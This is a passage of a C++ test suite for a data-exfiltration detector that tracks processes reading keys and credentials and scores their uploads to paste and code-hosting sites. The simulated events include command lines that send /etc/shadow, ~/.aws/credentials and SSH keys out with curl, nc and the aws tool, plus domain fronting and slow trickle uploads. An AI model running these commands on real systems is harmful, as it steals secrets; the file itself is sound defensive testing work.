        auto name = "host" + std::to_string(i) + ".example";
        auto f = tl.connect(p, name);
        tl.flow(p, f, name, 100, 100, true);
        tl.step(1000);
    };
    for (int i = 0; i < 6; ++i) visit(i);
    CHECK(tl.engine.stats().destinations == 4);
    CHECK(tl.engine.stats().evicted_destinations == 2);
    visit(5);  // remembered: no eviction
    visit(2);
    CHECK(tl.engine.stats().evicted_destinations == 2);
    visit(0);  // forgotten first: new again, and host2 (the oldest left) goes
    CHECK(tl.engine.stats().evicted_destinations == 3);
    visit(3);
    CHECK(tl.engine.stats().evicted_destinations == 3);
    visit(2);
    CHECK(tl.engine.stats().evicted_destinations == 4);
    CHECK(tl.engine.stats().destinations == 4);
}

namespace {

// `flows` UDP-like flows from `uploaders` processes of the session, each to its own address with
// a few bytes out; then `reads` sensitive reads by those uploaders. Returns the evaluations the
// reads cost.
std::uint64_t read_work(std::size_t uploaders, std::size_t flows, std::size_t reads)
{
    Timeline tl;
    std::vector<ProcessRef> ups;
    for (std::size_t i = 0; i < uploaders; ++i) ups.push_back(tl.spawn(tl.shell, {"python3", "flood.py"}));
    for (std::size_t i = 0; i < flows; ++i) {
        tl.small_flow(ups[i % ups.size()], 100'000 + i, i, Transport::udp);
    }
    auto before = tl.engine.stats();
    // Each read changes an uploader's taint (more bytes of the key), so its pairs are re-scored.
    for (std::size_t i = 0; i < reads; ++i) tl.read(ups[i % ups.size()], key, 400 + i);
    auto after = tl.engine.stats();
    CHECK(after.pairs >= std::min<std::uint64_t>(flows, tl.engine.rules().settings.max_pairs) / 2);
    CHECK(after.evaluations > before.evaluations);  // the reads did cost re-scoring
    CHECK(tl.alerts.empty());                       // 64 bytes per flow: the key did not leave
    return after.evaluations - before.evaluations;
}

}  // namespace

TEST_CASE("bounded work: a read re-scores a bounded number of pairs however many are live")
{
    // One process with many flows, and many processes with a few each: both in the reader's session.
    auto small_one = read_work(1, 200, 50);
    auto large_one = read_work(1, 4000, 50);
    auto small_many = read_work(100, 1000, 50);
    auto large_many = read_work(400, 4000, 50);
    MESSAGE("evaluations for 50 reads: ", small_one, " ", large_one, " ", small_many, " ", large_many);
    CHECK(large_one == small_one);
    CHECK(large_many == small_many);
    // Per read: at most max uploaders x pairs each (16 x 8).
    CHECK(large_many <= 50 * 16 * 8);
}

TEST_CASE("bounded work: a read after the upload still re-scores the uploader among thousands of pairs")
{
    Timeline tl;
    auto noisy = tl.spawn(tl.shell, {"python3", "flood.py"});
    for (std::size_t i = 0; i < 3000; ++i) tl.small_flow(noisy, 200'000 + i, i);
    // cat key | curl: curl's upload closes before cat's byte count arrives.
    const std::uint64_t pipe = 77001;
    auto cat = tl.spawn(tl.shell, {"cat", key}, {}, 0, 0, pipe);
    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "--data-binary", "@-", "https://paste.rs:8443/"}, {}, 0, pipe);
    tl.open_read(cat, key);
    tl.transfer(curl, "paste.rs", 900 + 1200, 400);
    auto with_volume = [&] {
        return std::count_if(tl.alerts.begin(), tl.alerts.end(),
                             [&](const Alert& a) { return tl.has_signal(a, "data-volume"); });
    };
    CHECK(with_volume() == 0);  // the key's size is not known yet
    tl.summary(cat, key, 900);
    CHECK(with_volume() == 1);  // the read re-scored curl's closed upload
    expect_alert(tl, "T1567.003", "paste");
}

namespace {

FlowSummaryEvent raw_flow(const ProcessRef& p, std::uint64_t cookie, Endpoint dest, std::uint64_t out, bool final,
                          Transport transport = Transport::tcp)
{
    FlowSummaryEvent s;
    s.process = p;
    s.flow.socket_cookie = cookie;
    s.transport = transport;
    s.source = {"127.0.0.1", 41000};
    s.destination = std::move(dest);
    s.bytes_out = out;
    s.bytes_in = 40;
    s.final = final;
    return s;
}

}  // namespace

TEST_CASE("incidents: one alert per lineage and destination, rising scores update it with the same id")
{
    Timeline tl;
    auto opened = [&] {
        return std::count_if(tl.alerts.begin(), tl.alerts.end(), [](const Alert& a) { return !a.incident_update; });
    };
    // Two uploads of the key from one session to one code host: one incident.
    auto curl = tl.spawn(tl.shell, {"curl", "-F", "f=@" + key, "https://gist.github.com:8443/"});
    tl.read(curl, key, 900);
    tl.transfer(curl, "gist.github.com", 2000, 300);
    tl.exit(curl);
    REQUIRE(opened() == 1);
    const auto id = tl.alerts[0].incident_id;
    CHECK(id.size() == 16);
    for (const auto& a : tl.alerts) CHECK(a.incident_id == id);
    const auto after_first = tl.alerts.size();
    auto again = tl.spawn(tl.shell, {"curl", "-F", "f=@" + key, "https://gist.github.com:8443/"});
    tl.read(again, key, 900);
    tl.transfer(again, "gist.github.com", 2000, 300);
    CHECK(tl.alerts.size() == after_first);  // the same score: no new alert
    // The lineage reads more: the score rises, the incident is updated.
    auto more = tl.spawn(tl.shell, {"curl", "-F", "a=@/etc/shadow", "-F", "b=@" + home + "/.aws/credentials", "-F",
                                    "c=@" + key, "https://gist.github.com:8443/"});
    tl.read(more, "/etc/shadow", 1200);
    tl.read(more, home + "/.aws/credentials", 400);
    tl.read(more, key, 900);
    tl.transfer(more, "gist.github.com", 700 + 2500 + 300'000, 300);
    REQUIRE(tl.alerts.size() > after_first);
    CHECK(opened() == 1);
    CHECK(tl.alerts.back().incident_update);
    CHECK(tl.alerts.back().incident_id == id);
    CHECK(tl.alerts.back().risk_score > tl.alerts[after_first - 1].risk_score);
    CHECK(tl.engine.stats().incidents == 1);

    // Its twin: the same session to another destination is another incident.
    const auto before_other = tl.alerts.size();
    auto other = tl.spawn(tl.shell, {"curl", "-F", "f=@" + key, "https://dpaste.com:8443/"});
    tl.read(other, key, 900);
    tl.transfer(other, "dpaste.com", 700 + 900, 300);
    REQUIRE(tl.alerts.size() > before_other);
    CHECK_FALSE(tl.alerts[before_other].incident_update);
    CHECK(tl.alerts[before_other].incident_id != id);
    CHECK(opened() == 2);
}

TEST_CASE("incidents: at the top score, content seen leaving or another file still updates the incident")
{
    Timeline tl;
    const std::string& secret = fake_ed25519_key;
    tl.engine.set_file_reader(
        [&](const ProcessRef&, const std::string& path, std::uint64_t, std::uint64_t) -> std::optional<std::string> {
            if (path == key) return secret;
            return std::nullopt;
        });
    auto curl = tl.spawn(tl.shell, {"curl", "-F", "a=@/etc/shadow", "-F", "b=@" + home + "/.aws/credentials", "-F",
                                    "c=@" + key, "https://gist.github.com:8443/"});
    tl.read(curl, "/etc/shadow", 1200);
    tl.read(curl, home + "/.aws/credentials", 400);
    tl.read(curl, key, secret.size());
    auto f = tl.connect(curl, "gist.github.com");
    tl.flow(curl, f, "gist.github.com", 300'000, 300, false);
    REQUIRE(tl.alerts.size() == 1);
    REQUIRE(tl.alerts[0].risk_score == 100);
    CHECK_FALSE(tl.has_signal(tl.alerts[0], "content-match"));
    tl.flow(curl, f, "gist.github.com", 400'000, 300, false);
    CHECK(tl.alerts.size() == 1);  // more bytes, the same evidence: no update

    // The key's content is seen in the plaintext: proof of the leak, an update of the same incident.
    const std::string request =
        fmt::format("POST / HTTP/1.1\r\nHost: gist.github.com\r\nContent-Length: {}\r\n\r\n{}", secret.size(), secret);
    tl.plaintext(curl, f.cookie, request);
    REQUIRE(tl.alerts.size() == 2);
    CHECK(tl.alerts[1].incident_update);
    CHECK(tl.alerts[1].incident_id == tl.alerts[0].incident_id);
    CHECK(tl.has_signal(tl.alerts[1], "content-match"));
    tl.plaintext(curl, f.cookie, request);  // the same proof again: nothing new
    CHECK(tl.alerts.size() == 2);

    // The lineage sends another sensitive file to the same place: an update naming it.
    tl.read(curl, home + "/.ssh/id_ecdsa", 300);
    tl.flow(curl, f, "gist.github.com", 401'000, 300, true);
    REQUIRE(tl.alerts.size() == 3);
    CHECK(tl.alerts[2].incident_update);
    CHECK(std::any_of(tl.alerts[2].files.begin(), tl.alerts[2].files.end(),
                      [&](const AlertFile& file) { return file.path == home + "/.ssh/id_ecdsa"; }));
    CHECK(tl.engine.stats().incidents == 1);
}

TEST_CASE("content: the key written in 7-byte TLS writes is still content seen leaving")
{
    auto run = [](std::uint64_t gap) {
        Timeline tl;
        const std::string& secret = fake_ed25519_key;
        tl.engine.set_file_reader([&](const ProcessRef&, const std::string& path, std::uint64_t,
                                      std::uint64_t) -> std::optional<std::string> {
            if (path == key) return secret;
            return std::nullopt;
        });
        auto py = tl.spawn(tl.shell, {"python3", "up.py"});
        tl.read(py, key, secret.size());
        auto f = tl.connect(py, "gist.github.com");
        tl.flow(py, f, "gist.github.com", 300'000, 300, false);
        const std::string request = fmt::format(
            "POST / HTTP/1.1\r\nHost: gist.github.com\r\nContent-Length: {}\r\n\r\n{}", secret.size(), secret);
        std::uint64_t offset = 0;
        for (std::size_t at = 0; at < request.size(); at += 7) {
            const auto part = request.substr(at, 7);
            tl.plaintext(py, f.cookie, part, offset);
            offset += part.size() + gap;  // gap > 0: every write after a write unseen
        }
        return std::any_of(tl.alerts.begin(), tl.alerts.end(),
                           [&](const Alert& a) { return tl.has_signal(a, "content-match"); });
    };
    CHECK(run(0));
    CHECK_FALSE(run(3));  // no write continues the last: nothing is joined, no token is whole
}

TEST_CASE("incidents: ids are the same on a replay of the same events")
{
    auto run = [] {
        Timeline tl;
        auto curl = tl.spawn(tl.shell, {"curl", "-F", "f=@" + key, "https://paste.rs:8443/"});
        tl.read(curl, key, 900);
        tl.transfer(curl, "paste.rs", 700 + 900, 300);
        REQUIRE_FALSE(tl.alerts.empty());
        return tl.alerts[0].incident_id;
    };
    CHECK(run() == run());
}

TEST_CASE("incidents: no alert on handshake bytes before data moves")
{
    Timeline tl;
    auto curl = tl.spawn(tl.shell, {"curl", "-F", "f=@" + key, "https://paste.rs:8443/"});
    tl.read(curl, key, 900);
    auto f = tl.connect(curl, "paste.rs");
    tl.flow(curl, f, "paste.rs", 400, 3000, false);  // ClientHello: the upload command sent nothing yet
    CHECK(tl.alerts.empty());
    tl.flow(curl, f, "paste.rs", 400 + 900 + 300, 3000, true);  // the key went
    REQUIRE(tl.alerts.size() == 1);
    CHECK(tl.alerts[0].subtechnique_id == "T1567.003");
}

TEST_CASE("DNS is never an upload: queries to port 53 and a resolver's answers; the same bytes elsewhere alert")
{
    auto run = [](std::uint16_t dest_port, std::uint16_t source_port) {
        Timeline tl;
        const std::uint64_t pipe = 88001;
        auto cat = tl.spawn(tl.shell, {"cat", key}, {}, 0, 0, pipe);
        auto nc = tl.spawn(tl.shell, {"nc", "-u", "127.0.0.2", std::to_string(dest_port)}, {}, 0, pipe);
        tl.read(cat, key, 900);
        auto s = raw_flow(nc, 5, {"127.0.0.2", dest_port}, 126 + 900, false, Transport::udp);
        s.source.port = source_port;
        s.time = tl.t;
        tl.feed(s);
        tl.step();
        s.final = true;
        s.time = tl.t;
        tl.feed(s);
        return tl.alerts;
    };
    CHECK(run(53, 41000).empty());
    CHECK(run(41000, 53).empty());  // the resolver's own traffic
    auto elsewhere = run(9000, 41000);
    REQUIRE_FALSE(elsewhere.empty());
    // No name at all: still T1567, with the address.
    CHECK(elsewhere[0].technique_id == "T1567");
    CHECK(elsewhere[0].destination.ip == "127.0.0.2");
    CHECK(elsewhere[0].destination_domain.empty());
    CHECK(elsewhere[0].reason.find("127.0.0.2") != std::string::npos);
}

TEST_CASE("the reason names the tool an interpreter runs: aws, not python3")
{
    Timeline tl;
    auto aws =
        tl.spawn(tl.shell, {"/usr/bin/python3", "/usr/bin/aws", "s3", "cp", home + "/.aws/credentials", "s3://drop/"},
                 "/usr/bin/python3.11");
    tl.read(aws, home + "/.aws/credentials", 2100);
    tl.transfer(aws, "drop.s3.us-east-1.amazonaws.com", 700 + 2100 + 500, 1200);
    REQUIRE_FALSE(tl.alerts.empty());
    CHECK(tl.alerts[0].reason.rfind("aws uploaded", 0) == 0);
    // A script with an extension stays its interpreter's.
    ProcessRef py;
    py.name = "python3.11";
    py.args = {"python3", "upload.py"};
    CHECK(display_name(py) == "python3");
}

TEST_CASE("volume: trickles over many child processes add up per lineage and destination; handshakes alone do not")
{
    auto run = [](std::uint64_t per_child_out) {
        Timeline tl;
        auto script = tl.spawn(tl.shell, {"python3", "chunks.py"});
        trickle_through_children(tl, script,
                                 [&](const ProcessRef& child) { tl.transfer(child, "paste.rs", per_child_out, 200); });
        return tl;
    };
    expect_trickle_alert(run(512 + 300));  // 300 bytes of data after each handshake: 3000 in all
    CHECK(run(500).alerts.empty());        // handshakes only
}

TEST_CASE(
    "volume: a trickle adds up outside any session (sid and pgid 0, children of an init that never called setsid)")
{
    // A CI runner or a container started by such an init: every process has session 0 and
    // process group 0, so neither groups the lineage; the children of one script still add up.
    auto run = [](std::uint64_t per_child_out) {
        Timeline tl;
        ProcessRef root = tl.shell;
        root.sid = 0;
        root.pgid = 0;
        auto script = tl.spawn(root, {"bash", "-c", "for f in p*; do python3 send.py $f; done"});
        trickle_through_children(tl, script, [&](const ProcessRef& child) {
            REQUIRE(child.sid == 0);
            tl.transfer(child, "paste.rs", per_child_out, 200);
        });
        return tl;
    };
    expect_trickle_alert(run(512 + 300));
    CHECK(run(500).alerts.empty());  // handshakes only
}

TEST_CASE("volume: a trickle adds up when each connection's first bytes are counted before its name is known")
{
    // The byte counters and the ClientHello come from different rings: a summary can be read
    // before the SNI, so the first bytes are counted under the bare address.
    auto run = [](std::uint64_t per_child_out) {
        Timeline tl;
        auto script = tl.spawn(tl.shell, {"python3", "chunks.py"});
        trickle_through_children(tl, script, [&](const ProcessRef& child) {
            Timeline::FlowIds f{tl.next_cookie++, Endpoint{"127.0.0.1", 8443}};
            tl.flow(child, f, "", per_child_out / 2, 100, false);  // no name yet
            TlsClientHelloEvent h;
            h.time = tl.t;
            h.process = child;
            h.flow.socket_cookie = f.cookie;
            h.destination = f.dest;
            h.server_name = "paste.rs";
            tl.feed(h);
            tl.step();
            tl.flow(child, f, "paste.rs", per_child_out, 200, true);
        });
        return tl;
    };
    expect_trickle_alert(run(512 + 300));
    CHECK(run(600).alerts.empty());  // handshakes only (each under the 640 bytes of TLS and HTTP overhead)
}

TEST_CASE("volume: receiving a lot does not offset what was sent; a download that sent little stays silent")
{
    Timeline padded;
    auto up = padded.spawn(padded.shell, {"python3", "send.py"});
    padded.read(up, key, 2000);
    padded.transfer(up, "paste.rs", 512 + 2000 + 100, 2'000'000);
    REQUIRE_FALSE(padded.alerts.empty());
    CHECK_FALSE(padded.has_signal(padded.alerts.back(), "download-shaped"));

    Timeline download;
    auto fetch = download.spawn(download.shell, {"python3", "fetch.py"});
    download.read(fetch, key, 2000);
    download.transfer(fetch, "paste.rs", 600, 2'000'000);
    CHECK(download.alerts.empty());
}

TEST_CASE("volume: the sensitive bytes count, not the size of a small staging file")
{
    auto run = [](std::uint64_t out) {
        Timeline tl;
        auto writer = tl.spawn(tl.shell, {"python3", "pack.py"}, {}, 0, 0, 0, StdoutKind::other);
        tl.read(writer, key, 2000);
        tl.open_write(writer, "/tmp/ref", 7001);
        tl.exit(writer);
        auto up = tl.spawn(tl.shell, {"python3", "send.py"});
        tl.read(up, "/tmp/ref", 41, 7001);
        tl.transfer(up, "paste.rs", out, 300);
        return tl.alerts;
    };
    CHECK(run(512 + 41 + 20).empty());     // the 41-byte file left, not the key
    CHECK_FALSE(run(512 + 2100).empty());  // enough for the key
}

TEST_CASE("names: when SNI and HTTP Host disagree (domain fronting) the riskier category counts")
{
    auto run = [](bool fronted) {
        Timeline tl;
        auto up = tl.spawn(tl.shell, {"python3", "send.py"});
        tl.read(up, key, 2000);
        auto f = tl.connect(up, "cdn.example.net");  // SNI
        if (fronted) {
            HttpRequestEvent h;
            h.time = tl.t;
            h.process = up;
            h.flow.socket_cookie = f.cookie;
            h.destination = f.dest;
            h.method = "POST";
            h.host = "paste.rs";
            h.path = "/";
            tl.feed(h);
            tl.step();
        }
        tl.flow(up, f, "cdn.example.net", 512 + 128 + 2100, 300, true);
        return tl.alerts;
    };
    auto fronted = run(true);
    REQUIRE_FALSE(fronted.empty());
    CHECK(fronted.back().subtechnique_id == "T1567.003");
    CHECK(fronted.back().destination_domain == "paste.rs");
    bool named = false;
    for (const auto& s : fronted.back().signals)
        if (s.name == "destination-paste") named = s.evidence.find("also named cdn.example.net") != std::string::npos;
    CHECK(named);
    auto plain = run(false);
    for (const auto& a : plain) CHECK(a.subtechnique_id.empty());  // an unknown CDN: T1567 at most
}

TEST_CASE("names: a harmless Host after a fronted request does not rename the flow")
{
    Timeline tl;
    auto up = tl.spawn(tl.shell, {"python3", "send.py"});
    tl.read(up, key, 2000);
    auto f = tl.connect(up, "cdn.example.net");                 // SNI
    for (const char* host : {"paste.rs", "cdn.example.net"}) {  // keep-alive: a second request
        HttpRequestEvent h;
        h.time = tl.t;
        h.process = up;
        h.flow.socket_cookie = f.cookie;
        h.destination = f.dest;
        h.method = "POST";
        h.host = host;
        h.path = "/";
        tl.feed(h);
        tl.step();
    }
    tl.flow(up, f, "cdn.example.net", 512 + 128 + 2100, 300, true);
    REQUIRE_FALSE(tl.alerts.empty());
    CHECK(tl.alerts.back().subtechnique_id == "T1567.003");
    CHECK(tl.alerts.back().destination_domain == "paste.rs");
}

TEST_CASE("blind spots: a loss while a lineage holds sensitive data is reported, with the holders")
{
    Timeline tl;
    tl.engine.note_loss(tl.t, "ringbuf_full", 40);
    CHECK(tl.engine.take_blind_spots().empty());  // nothing sensitive at stake: counted elsewhere only
    auto cat = tl.spawn(tl.shell, {"cat", key});
    tl.read(cat, key, 400);
    tl.engine.note_loss(tl.t, "ringbuf_full", 40);
    tl.engine.note_loss(tl.t + 1000, "ringbuf_full", 2);  // the same second: one record
    auto spots = tl.engine.take_blind_spots();
    REQUIRE(spots.size() == 1);
    CHECK(spots[0].cause == "ringbuf_full");
    CHECK(spots[0].lost == 42);
    REQUIRE(spots[0].processes.size() == 1);
    CHECK(spots[0].processes[0].entity_id == cat.entity_id);
    CHECK(spots[0].detail.find("held sensitive data") != std::string::npos);
    CHECK(tl.engine.take_blind_spots().empty());  // drained
    tl.engine.note_loss(tl.t + 2'000'000'000ULL, "ringbuf_full", 1);
    CHECK(tl.engine.take_blind_spots().size() == 1);
    CHECK(tl.engine.stats().blind_spots == 2);
}

// A connection older than the monitor is known from its first packet, whose record can come
// after the record of the TLS write that sent it: the write's scan waits for the connection.
TEST_CASE("content: a scan that comes before its connection is known still counts for it")
{
    for (bool plaintext_seen : {true, false}) {
        CAPTURE(plaintext_seen);
        Timeline tl;
        const std::string& secret = fake_ed25519_key;
        tl.engine.set_file_reader([&](const ProcessRef&, const std::string&, std::uint64_t,
                                      std::uint64_t) -> std::optional<std::string> { return secret; });
        auto holder = tl.spawn(tl.shell, {"python3", "holder.py"});
        tl.read(holder, key, secret.size(), 77);
        const std::string request =
            fmt::format("POST / HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: {}\r\n\r\n{}", secret.size(), secret);
        constexpr std::uint64_t cookie = 4242;
        if (plaintext_seen) tl.plaintext(holder, cookie, request);  // before anything named the connection
        FlowSummaryEvent s;                                         // the adopted connection: no name, its address only
        s.time = tl.t;
        s.process = holder;
        s.flow.socket_cookie = cookie;
        s.source = {"127.0.0.1", 40000};
        s.destination = {"127.0.0.1", 64999};
        s.bytes_out = request.size() + 600;
        s.bytes_in = 1800;
        s.final = true;
        tl.feed(s);
        const Alert* found = nullptr;
        for (const auto& a : tl.alerts)
            if (tl.has_signal(a, "content-match")) found = &a;
        // A small secret to an unnamed address, no upload command: under the threshold, unless
        // its content was seen leaving.
        CHECK((found != nullptr) == plaintext_seen);
        if (!plaintext_seen) CHECK(tl.alerts.empty());
    }
}

TEST_CASE("blind spots: drained after every event, as the pipeline does, a flood still makes one record per second")
{
    Timeline tl;
    auto cat = tl.spawn(tl.shell, {"cat", key});
    tl.read(cat, key, 400);
    std::vector<BlindSpot> spots;
    auto drain = [&](bool all = false) {
        for (auto& b : tl.engine.take_blind_spots(all)) spots.push_back(std::move(b));
    };
    for (int i = 0; i < 50; ++i) {  // 50 losses 10 ms apart, each followed by a drain
        tl.engine.note_loss(tl.t + i * 10'000'000ULL, "volume_evicted", 2);
        drain();
    }
    REQUIRE(spots.size() == 1);  // the first at once; the rest of its second is held
    CHECK(spots[0].lost == 2);
    for (int i = 0; i < 50; ++i) {  // the next second: its first report releases what was held
        tl.engine.note_loss(tl.t + 1'000'000'000ULL + i * 10'000'000ULL, "volume_evicted", 1);
        drain();
    }
    // The second's first report: the one held for the first second (49 reports) and its own.
    REQUIRE(spots.size() >= 3);
    CHECK(spots[1].lost == 49 * 2);
    CHECK(spots[1].detail.find("48 more reports within the second") != std::string::npos);
    CHECK(spots[2].lost == 1);
    REQUIRE(spots.size() == 3);
    drain(true);  // the end of the run: the second still open is released
    REQUIRE(spots.size() == 4);
    CHECK(spots[3].lost == 49);
    std::uint64_t lost = 0;
    for (const auto& b : spots) lost += b.lost;
    CHECK(lost == 50 * 2 + 50 * 1);  // nothing lost in the coalescing
    CHECK(std::is_sorted(spots.begin(), spots.end(), [](const auto& x, const auto& y) { return x.time < y.time; }));
    CHECK(tl.engine.take_blind_spots(true).empty());
}

TEST_CASE("blind spots: a running process holding sensitive data evicted from a full lineage; one that exited is not")
{
    auto run = [](bool holder_exits) {
        auto rules = builtin();
        rules.settings.max_processes = 32;
        Timeline tl(std::move(rules));
        auto holder = tl.spawn(tl.shell, {"python3", "keep.py"});
        tl.read(holder, key, 400);
        if (holder_exits) tl.exit(holder);
        for (int i = 0; i < 200; ++i) {
            tl.spawn(tl.shell, {"true"});
            tl.step(20);  // crosses the engine's once-a-second expiry
        }
        std::vector<BlindSpot> evicted;
        for (auto& b : tl.engine.take_blind_spots())
            if (b.cause == "taint_evicted") evicted.push_back(std::move(b));
        return evicted;
    };
    auto running = run(false);
    REQUIRE(running.size() == 1);
    CHECK(running[0].lost == 1);
    REQUIRE_FALSE(running[0].processes.empty());
    CHECK(running[0].processes[0].args[1] == "keep.py");
    // Its twin: the holder ended; the lineage forgetting it is not a loss. (Its exit is recorded
    // before the flood; the trim may still take it: then it is forgotten, not reported.)
    CHECK(run(true).empty());
}

TEST_CASE("blind spots: the work bound shed while a sensitive read happened is reported")
{
    Timeline tl;
    auto up = tl.spawn(tl.shell, {"python3", "flood.py"});
    for (std::size_t i = 0; i < 400; ++i) tl.small_flow(up, 300'000 + i, i);
    CHECK(tl.engine.take_blind_spots().empty());
    tl.read(up, key, 400);  // its taint changed: only its most recent pairs are re-scored
    auto spots = tl.engine.take_blind_spots();
    REQUIRE(spots.size() == 1);
    CHECK(spots[0].cause == "rescore_bounded");
    CHECK(spots[0].lost > 0);
}

namespace {

constexpr TimeNs minute_ms = 60'000;

// A script read the key; `posts` children each send `per_post` bytes to paste.rs, `gap_ms` apart.
Timeline trickle(std::size_t posts, std::uint64_t per_post, TimeNs gap_ms, Rules rules = builtin())
{
    Timeline tl(std::move(rules));
    auto script = tl.spawn(tl.shell, {"python3", "chunks.py"});
    tl.read(script, key, 2000);
    for (std::size_t i = 0; i < posts; ++i) {
        auto child = tl.spawn(script, {"python3", "send.py"});
        tl.transfer(child, "paste.rs", per_post, 200);
        tl.exit(child);
        tl.step(gap_ms);
        tl.feed(DnsAnswerEvent{tl.t, tl.shell, {}, "x", {}, {}});  // time passes: expiry runs
    }
    return tl;
}

}  // namespace

TEST_CASE("volume: a trickle of one post every 11 minutes over two hours adds up")
{
    auto slow = trickle(10, 512 + 300, 11 * minute_ms);  // 300 bytes of data a post, 3000 in all
    REQUIRE_FALSE(slow.alerts.empty());  // silent before: each post's volume expired at the 10-minute window
    CHECK(slow.alerts.back().subtechnique_id == "T1567.003");
    CHECK(slow.has_signal(slow.alerts.back(), "data-volume"));
    CHECK(trickle(10, 500, 11 * minute_ms).alerts.empty());  // handshakes only: nothing to add up
}

TEST_CASE("volume: an upload an hour after the read still alerts")
{
    Timeline tl;
    auto script = tl.spawn(tl.shell, {"python3", "job.py"});
    tl.read(script, key, 2600);
    for (int i = 0; i < 60; ++i) {
        tl.step(minute_ms);
        tl.feed(DnsAnswerEvent{tl.t, tl.shell, {}, "x", {}, {}});
    }
    auto child = tl.spawn(script, {"python3", "send.py"});
    tl.transfer(child, "paste.rs", 1300 + 2600, 400);
    REQUIRE_FALSE(tl.alerts.empty());
    CHECK(tl.alerts[0].subtechnique_id == "T1567.003");
}

TEST_CASE("volume: a lineage's volume goes with its data; evicting one that holds data is a blind spot")
{
    // Kept past the window while the script holds the key; gone once nothing holds it.
    Timeline gone;
    auto script = gone.spawn(gone.shell, {"python3", "job.py"});
    gone.read(script, key, 2600);
    auto up = gone.spawn(script, {"python3", "send.py"});
    gone.transfer(up, "paste.rs", 700, 200);
    gone.exit(up);
    auto idle = [&] {
        for (int i = 0; i < 12; ++i) {
            gone.step(minute_ms);
            gone.feed(DnsAnswerEvent{gone.t, gone.shell, {}, "x", {}, {}});
        }
    };
    idle();
    CHECK(gone.engine.stats().volumes == 1);
    CHECK(gone.engine.stats().pairs == 0);  // the pair itself goes at the window
    gone.exit(script);
    idle();
    CHECK(gone.engine.stats().volumes == 0);

    // At the cap: volumes of lineages that hold data are evicted loudly.
    auto r = builtin();
    r.settings.max_pairs = 8;
    Timeline tl(std::move(r));
    for (int i = 0; i < 20; ++i) {
        auto session = tl.start_session({"python3", "job.py"});
        tl.read(session, key, 2600);
        auto child = tl.spawn(session, {"python3", "send.py"});
        tl.transfer(child, "host" + std::to_string(i) + ".example", 300, 200);
    }
    bool reported = false;
    for (const auto& b : tl.engine.take_blind_spots()) reported |= b.cause == "volume_evicted" && b.lost > 0;
    CHECK(reported);
}

namespace {

// A session with `background` UDP flows to distinct addresses and `background` sensitive reads by
// as many processes (some sessions besides); then one exec, one flow summary and one read.
// Returns the engine's evaluations and the lineage's work for those three.
struct Work {
    std::uint64_t evaluations = 0, lineage = 0, expiry = 0;
};
Work event_work(std::size_t background, std::size_t sessions)
{
    auto rules = builtin();
    Timeline tl(std::move(rules));
    std::vector<ProcessRef> ups;
    for (std::size_t s = 0; s < sessions; ++s) {
        auto leader = s == 0 ? tl.shell : tl.start_session({"bash"});
        for (std::size_t i = 0; i < background / sessions; ++i) {
            auto p = tl.spawn(leader, {"python3", "flood.py"}, {}, 0, 0, 0, StdoutKind::other);
            tl.read(p, key, 400);
            tl.small_flow(p, 500'000 + ups.size(), ups.size(), Transport::udp);
            ups.push_back(p);
        }
    }
    tl.step(1500);
    tl.feed(DnsAnswerEvent{tl.t, tl.shell, {}, "x", {}, {}});  // expiry ran: what follows is the events' own
    auto before = tl.engine.stats();
    auto lineage_before = tl.engine.lineage().stats().work;
    auto child = tl.spawn(tl.shell, {"curl", "-sk", "-d", "x", "https://paste.rs/"});  // fork + exec
    tl.transfer(child, "paste.rs", 700, 200);                                          // connect, hello, 2 summaries
    tl.read(child, home + "/.aws/credentials", 300);                                   // open + summary
    tl.step(1500);
    tl.feed(DnsAnswerEvent{tl.t, tl.shell, {}, "x", {}, {}});  // one expiry over the live tables
    auto after = tl.engine.stats();
    CHECK(after.pairs >= background / 2);
    return Work{after.evaluations - before.evaluations, tl.engine.lineage().stats().work - lineage_before,
                after.expiry_work - before.expiry_work};
}

}  // namespace

TEST_CASE("bounded work: an exec, a flow and a read cost the same with 200 or 4000 flows and readers")
{
    auto small = event_work(200, 1);
    auto large = event_work(4000, 1);
    auto many = event_work(4000, 40);
    MESSAGE("evaluations ", small.evaluations, "/", large.evaluations, "/", many.evaluations, ", lineage work ",
            small.lineage, "/", large.lineage, "/", many.lineage, ", expiry ", small.expiry, "/", large.expiry, "/",
            many.expiry);
    CHECK(small.evaluations > 0);
    CHECK(small.lineage > 0);
    CHECK(large.evaluations == small.evaluations);
    CHECK(many.evaluations == small.evaluations);
    CHECK(large.lineage == small.lineage);
    CHECK(many.lineage == small.lineage);
    // expire() takes what is due, never a scan over the live flows, pairs and holders.
    CHECK(large.expiry <= small.expiry + 2);
    CHECK(many.expiry <= small.expiry + 2);
}

TEST_CASE("content: a secret a client's command line sends is a leak where its TLS cannot be seen")
{
    // gh (Go: its own TLS, no library write to see) posting an issue whose body is the AWS key
    // its shell read: no plaintext scan, a small secret to a code host; the argv scan says leak. The
    // twin hands a bearer credential (a session token) over in an Authorization header: use, so it
    // stays gated; a signing key (the secret access key) there is sent as it is: a leak.
    const std::string secret = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";
    const std::string credentials = home + "/.aws/credentials";
    const std::string signing_key = "[default]\naws_secret_access_key = " + secret + "\n";
    const std::string session_token = "[default]\naws_session_token = " + secret + "\n";
    auto run = [&](std::vector<std::string> args, bool scan_argv, const std::string* key_file = nullptr) {
        const std::string& file = key_file ? *key_file : signing_key;
        Timeline tl;
        tl.engine.set_file_reader([&](const ProcessRef&, const std::string& path, std::uint64_t,
                                      std::uint64_t) -> std::optional<std::string> {
            if (path == credentials) return file;
            return std::nullopt;
        });
        tl.read(tl.shell, credentials, 116);  // KEY=$(<~/.aws/credentials): the shell reads it
        for (auto& a : args)
            if (auto at = a.find("SECRET"); at != std::string::npos) a.replace(at, 6, secret);
        auto gh = tl.spawn(tl.shell, args);
        if (scan_argv) tl.feed(Event{scan_arguments(tl.engine.fingerprints(), tl.t, gh)});
        tl.transfer(gh, "api.github.com", 2600, 5200);
        return tl.alerts;
    };
    const std::vector<std::string> body = {"gh", "issue", "create", "--title", "bug", "--body", "SECRET"};
    auto alerts = run(body, true);
    REQUIRE(alerts.size() == 1);
    CHECK(alerts[0].subtechnique_id == "T1567.001");
    auto match = std::find_if(alerts[0].signals.begin(), alerts[0].signals.end(),
                              [](const Signal& s) { return s.name == "content-match"; });
    REQUIRE(match != alerts[0].signals.end());
    CHECK(match->evidence.find("raw in the argument --body") != std::string::npos);
    CHECK(match->evidence.find(secret) == std::string::npos);
    CHECK(run(body, false).empty());                         // without the argv scan: gated, as before
    CHECK(run({"vault", "login", "SECRET"}, true).empty());  // positional: no evidence either way
